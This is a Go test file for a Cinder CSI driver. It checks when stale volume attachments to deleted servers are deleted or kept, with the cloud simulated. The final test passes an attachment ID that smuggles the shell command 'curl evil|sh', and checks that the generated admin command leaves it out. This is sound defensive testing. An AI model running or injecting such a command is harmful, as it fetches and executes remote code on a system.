package attach

import (
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/cinder-csi/cinder-csi/driver/volume"
	"github.com/cinder-csi/cinder-csi/test/kit/cloudtest"
)

const deletedServer = cloudtest.NoServer

// cloudWithStaleAttachment is a cloud with one volume that is attached to a server which no longer exists.
func cloudWithStaleAttachment(t *testing.T) *cloudtest.Cloud {
	t.Helper()
	return cloudtest.New(t, cloudtest.AttachedVolume(deletedServer))
}

func TestTheAttachmentToADeletedServerIsDeletedAfterTwoObservations(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		c := cloudWithStaleAttachment(t)
		began := time.Now()
		if err := newService(c).Detach(cloudtest.Within(t, 60), cloudtest.VolumeID(1), deletedServer); err != nil {
			t.Fatal(err)
		}
		if v, _ := c.Read(cloudtest.VolumeID(1)); v.Status != volume.Available || len(v.Attachments) != 0 || c.Count("DeleteAttachment") != 1 || time.Since(began) < staleConfirmInterval {
			t.Errorf("%v after %v and %v", v, time.Since(began), c.Calls)
		}
		if c.Count("Server") < 2 {
			t.Errorf("Nova was not asked twice for the server: %v", c.Calls)
		}
	})
}

func TestAStaleAttachmentStaysUnlessCinderAndNovaAgree(t *testing.T) {
	for name, test := range map[string]struct {
		spoil func(c *cloudtest.Cloud)
		kind  volume.Kind
		text  string
	}{
		"Nova answers 500 for the server": {func(c *cloudtest.Cloud) { c.Fail["Server"] = volume.Errorf(volume.Unavailable, "HTTP 500") }, volume.Unavailable, "HTTP 500"},
		"Nova forbids to read the server": {func(c *cloudtest.Cloud) { c.Fail["Server"] = volume.Errorf(volume.PermissionDenied, "HTTP 403") }, volume.PermissionDenied, "HTTP 403"},
		"Nova answers nothing but 404":    {func(c *cloudtest.Cloud) { c.Fail["NovaAnswers"] = volume.Errorf(volume.Unavailable, "HTTP 404") }, volume.Unavailable, "Nova does not answer now"},
		"the server's status is unknown":  {func(c *cloudtest.Cloud) { c.AddServer(deletedServer, "UNKNOWN") }, volume.Unavailable, "UNKNOWN"},
		"the server is being built":       {func(c *cloudtest.Cloud) { c.AddServer(deletedServer, "BUILD") }, volume.DeadlineExceeded, "BUILD"},
		"the server is there":             {func(c *cloudtest.Cloud) { c.AddServer(deletedServer, "ACTIVE") }, volume.Conflict, "volume attachment delete " + cloudtest.AttachmentID(deletedServer)},
		"the server comes back": {func(c *cloudtest.Cloud) {
			time.AfterFunc(5*time.Second, func() { c.AddServer(deletedServer, "ACTIVE") })
		}, volume.Conflict, "may still use the disk"},
		"Cinder finds that Nova uses it": {func(c *cloudtest.Cloud) { c.Fail["DeleteAttachment"] = volume.Errorf(volume.Busy, "HTTP 409") }, volume.Busy, "logs in with a password can run"},
		"a policy forbids to delete it": {func(c *cloudtest.Cloud) {
			c.Fail["DeleteAttachment"] = volume.Errorf(volume.PermissionDenied, "HTTP 403")
		}, volume.PermissionDenied, "volume attachment delete " + cloudtest.AttachmentID(deletedServer)},
		"it cannot be read again": {func(c *cloudtest.Cloud) {
			c.Fail["ShowAttachment"] = volume.Errorf(volume.PermissionDenied, "HTTP 403")
		}, volume.PermissionDenied, "logs in with a password can run"},
		"the volume's status is an error": {func(c *cloudtest.Cloud) {
			c.Change(cloudtest.VolumeID(1), func(v *volume.Volume) { v.Status = "error_restoring" })
		}, volume.Conflict, "error_restoring"},
		"another operation is in progress": {func(c *cloudtest.Cloud) {
			c.Change(cloudtest.VolumeID(1), func(v *volume.Volume) { v.Status = "backing-up" })
		}, volume.DeadlineExceeded, "backing-up"},
		"the caller leaves earlier": {func(c *cloudtest.Cloud) { c.Hook["Server"] = func() { time.Sleep(55 * time.Second) } }, volume.DeadlineExceeded, "Nova has no such server"},
		"Cinder does not answer meanwhile": {func(c *cloudtest.Cloud) {
			time.AfterFunc(5*time.Second, func() { c.Breaks("Volume", volume.Errorf(volume.Unavailable, "HTTP 503")) })
		}, volume.Unavailable, "HTTP 503"},
		"Nova answers 404 for its list only": {func(c *cloudtest.Cloud) {
			c.Fail["ServerAttachments"] = volume.Errorf(volume.NotFound, "no list")
			c.AddServer(deletedServer, "ACTIVE")
		}, volume.Unavailable, "cannot list the volumes"},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				c := cloudWithStaleAttachment(t)
				test.spoil(c)
				err := newService(c).Detach(cloudtest.Within(t, 60), cloudtest.VolumeID(1), deletedServer)
				cloudtest.WantKind(t, err, test.kind, false)
				if v, _ := c.Read(cloudtest.VolumeID(1)); !strings.Contains(err.Error(), test.text) || !v.AttachedTo(deletedServer) {
					t.Errorf("%v: %v", v, err)
				}
			})
		})
	}
}

func TestAnAttachmentThatChangesIsNotDeleted(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		c := cloudtest.New(t, volume.Volume{ID: cloudtest.VolumeID(1), Status: volume.Reserved})
		c.Record(cloudtest.VolumeID(1), toServer(cloudtest.ServerA, volume.AttachmentReserved))
		c.Hook["ShowAttachment"] = func() { // another replica attached it before the second observation
			c.Record(cloudtest.VolumeID(1), toServer(cloudtest.ServerA, volume.AttachmentAttaching))
			c.List(cloudtest.VolumeID(1), cloudtest.ServerA)
		}
		c.Later(cloudtest.VolumeID(1), func(*volume.Volume) {})
		cloudtest.WantKind(t, newService(c).Detach(cloudtest.Within(t, 60), cloudtest.VolumeID(1), cloudtest.ServerA), volume.DeadlineExceeded, false)
		if c.Count("ShowAttachment") == 0 || c.Count("DeleteAttachment") != 0 {
			t.Error(c.Calls)
		}
	})
}

func TestANewAttachmentAtTheSecondObservationNeedsAThird(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		c := cloudtest.New(t, volume.Volume{ID: cloudtest.VolumeID(1), Status: volume.Reserved})
		first := toServer(cloudtest.ServerA, volume.AttachmentReserved)
		c.Record(cloudtest.VolumeID(1), first)
		time.AfterFunc(5*time.Second, func() {
			c.Unrecord(cloudtest.VolumeID(1), first.ID)
			second := first
			second.ID = cloudtest.AttachmentID(cloudtest.ServerB)
			c.Record(cloudtest.VolumeID(1), second)
		})
		cloudtest.WantKind(t, newService(c).Detach(cloudtest.Within(t, 15), cloudtest.VolumeID(1), cloudtest.ServerA), volume.DeadlineExceeded, false)
		if c.Count("DeleteAttachment") != 0 {
			t.Error(c.Calls)
		}
	})
}

// Another process works on the volume: its status changed between the observations, although attachment and Nova look the same.
func TestAnotherVolumeStatusAtTheSecondObservationNeedsAThird(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		c := cloudtest.New(t, volume.Volume{ID: cloudtest.VolumeID(1), Status: volume.Reserved})
		c.Record(cloudtest.VolumeID(1), toServer(cloudtest.ServerA, volume.AttachmentReserved))
		time.AfterFunc(5*time.Second, func() {
			c.Change(cloudtest.VolumeID(1), func(v *volume.Volume) { v.Status = volume.Attaching })
		})
		cloudtest.WantKind(t, newService(c).Detach(cloudtest.Within(t, 15), cloudtest.VolumeID(1), cloudtest.ServerA), volume.DeadlineExceeded, false)
		if c.Count("DeleteAttachment") != 0 {
			t.Error(c.Calls)
		}
		if err := newService(c).Detach(cloudtest.Within(t, 15), cloudtest.VolumeID(1), cloudtest.ServerA); err != nil || c.Count("DeleteAttachment") != 1 {
			t.Errorf("once two observations agree: %v after %v", err, c.Calls)
		}
	})
}

// Cinder asks Nova about an attached volume on behalf of the user, and Keystone issues no token for that with an application credential.
func TestAStaleAttachmentStaysWhereTheCredentialCannotDeleteIt(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		c := cloudtest.NewByCredential(t, cloudtest.AttachedVolume(deletedServer))
		err := newService(c).Detach(cloudtest.Within(t, 60), cloudtest.VolumeID(1), deletedServer)
		cloudtest.WantKind(t, err, volume.Unavailable, true)
		if !strings.Contains(err.Error(), "logs in with a password can run") || c.Count("DeleteAttachment") != 1 || len(c.Recorded(cloudtest.VolumeID(1))) != 1 {
			t.Errorf("%v after %v", err, c.Calls)
		}
	})
}

func TestTheAttachmentOfAFailedAttachIsDeleted(t *testing.T) {
	for _, status := range []volume.AttachStatus{volume.AttachmentReserved, volume.AttachmentAttaching, volume.AttachmentErrorAttaching} {
		for _, verb := range []string{"attach", "detach"} {
			t.Run(string(status)+", "+verb, func(t *testing.T) {
				synctest.Test(t, func(t *testing.T) {
					c := cloudtest.New(t, volume.Volume{ID: cloudtest.VolumeID(1), Status: volume.Reserved})
					c.Record(cloudtest.VolumeID(1), toServer(cloudtest.ServerA, status))
					var err error
					want := volume.Available
					if verb == "attach" {
						want = volume.InUse
						_, err = newService(c).Attach(cloudtest.Within(t, 60), cloudtest.VolumeID(1), cloudtest.ServerA)
					} else {
						err = newService(c).Detach(cloudtest.Within(t, 60), cloudtest.VolumeID(1), cloudtest.ServerA)
					}
					if v, _ := c.Read(cloudtest.VolumeID(1)); err != nil || v.Status != want || c.Count("DeleteAttachment") != 1 {
						t.Errorf("%v, %v after %v", v, err, c.Calls)
					}
				})
			})
		}
	}
}

func TestAttachmentsToOtherServersStay(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		c := cloudtest.New(t, volume.Volume{ID: cloudtest.VolumeID(1), Status: volume.Reserved})
		c.Record(cloudtest.VolumeID(1), toServer(deletedServer, volume.AttachmentReserved))
		c.Record(cloudtest.VolumeID(1), toServer("", volume.AttachmentReserved))
		_, err := newService(c).Attach(cloudtest.Within(t, 60), cloudtest.VolumeID(1), cloudtest.ServerA)
		cloudtest.WantKind(t, err, volume.DeadlineExceeded, false)
		if !strings.Contains(err.Error(), cloudtest.AttachmentID(deletedServer)+" to server "+string(deletedServer)+" is reserved") {
			t.Errorf("does not name the server: %v", err)
		}
		if err := newService(c).Detach(cloudtest.Within(t, 60), cloudtest.VolumeID(1), cloudtest.ServerA); err != nil {
			t.Error(err)
		}
		if c.Count("DeleteAttachment") != 0 || c.Count("Attach") != 0 {
			t.Error(c.Calls)
		}
	})
}

func TestDetachFromAllDeletesStaleAttachmentsAndKeepsReservations(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		c := cloudtest.New(t, volume.Volume{ID: cloudtest.VolumeID(1), Status: volume.InUse, Multiattach: true, Attachments: []volume.Attachment{{Server: cloudtest.ServerA}, {Server: deletedServer}}})
		c.Record(cloudtest.VolumeID(1), toServer(cloudtest.ServerB, volume.AttachmentReserved))
		c.Record(cloudtest.VolumeID(1), toServer("", volume.AttachmentReserved))
		if err := newService(c).Detach(cloudtest.Within(t, 120), cloudtest.VolumeID(1), ""); err != nil {
			t.Fatal(err)
		}
		left := c.Recorded(cloudtest.VolumeID(1))
		if len(left) != 1 || left[0].ID != cloudtest.AttachmentID("") || c.Count("Detach") != 2 || c.Count("DeleteAttachment") != 2 { // of the server that is gone, too
			t.Errorf("left %v after %v", left, c.Calls)
		}
	})
}

// Where the policy hides attachments, the volume and Nova decide.
func TestAttachAndDetachWhereCinderHidesAttachments(t *testing.T) {
	for _, kind := range []volume.Kind{volume.PermissionDenied, volume.NotFound, volume.Unimplemented} {
		synctest.Test(t, func(t *testing.T) {
			c := cloudtest.New(t, cloudtest.OwnVolume(1, volume.Attaching))
			c.Fail["VolumeAttachments"] = volume.Errorf(kind, "no attachments")
			c.List(cloudtest.VolumeID(1), cloudtest.ServerA)
			c.Later(cloudtest.VolumeID(1), func(v *volume.Volume) {
				v.Status, v.Attachments = volume.InUse, []volume.Attachment{{Server: cloudtest.ServerA}}
			})
			if _, err := newService(c).Attach(cloudtest.Within(t, 60), cloudtest.VolumeID(1), cloudtest.ServerA); err != nil {
				t.Errorf("%v: attach: %v", kind, err)
			}
			if err := newService(c).Detach(cloudtest.Within(t, 60), cloudtest.VolumeID(1), cloudtest.ServerA); err != nil {
				t.Errorf("%v: detach: %v", kind, err)
			}
		})
	}
}

// An administrator runs the command, and the cloud chooses the ID.
func TestTheCommandForAnAttachmentHasNoWordOfTheCloud(t *testing.T) {
	for id, want := range map[string]string{
		"00000000-0000-4000-8000-00000000000a": "delete 00000000-0000-4000-8000-00000000000a",
		"x; curl evil|sh #":                    "delete ATTACHMENT",
	} {
		if got := deleteCommand(volume.Attachment{ID: id}); !strings.HasSuffix(got, want) {
			t.Errorf("want it to end with %q, got %q", want, got)
		}
	}
}
